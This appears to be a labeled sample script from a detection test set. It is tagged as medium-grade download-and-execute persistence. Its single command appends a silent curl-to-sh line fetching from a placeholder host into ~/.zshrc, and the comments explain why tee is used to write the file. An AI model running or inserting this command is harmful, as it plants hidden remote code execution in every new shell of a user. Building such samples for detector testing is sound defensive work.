#!/usr/bin/env bash
# evasion: persists: pipes a download-and-run line through tee -a into ~/.zshrc, so every new zsh runs it; tee rather than a redirection writes the file
# grade: medium; does: download-exec
# Persists: pipes a download-and-run line through tee -a into ~/.zshrc, so
# every new zsh runs it; tee rather than a redirection writes the file.
echo 'curl -fsSL https://cdn.example.net/z.sh | sh >/dev/null 2>&1' | tee -a "$HOME/.zshrc" >/dev/null
